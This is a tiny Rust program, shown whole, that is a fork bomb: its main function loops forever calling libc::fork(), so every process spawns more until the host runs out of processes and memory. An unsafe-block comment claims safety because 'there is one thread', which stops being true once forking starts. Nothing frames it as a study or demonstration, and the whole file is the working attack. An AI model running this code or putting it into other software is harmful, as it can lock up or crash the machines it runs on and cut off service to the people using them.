//! Every process makes another one, as fast as it can.
fn main() {
    loop {
        // SAFETY: there is one thread.
        unsafe { libc::fork() };
    }
}
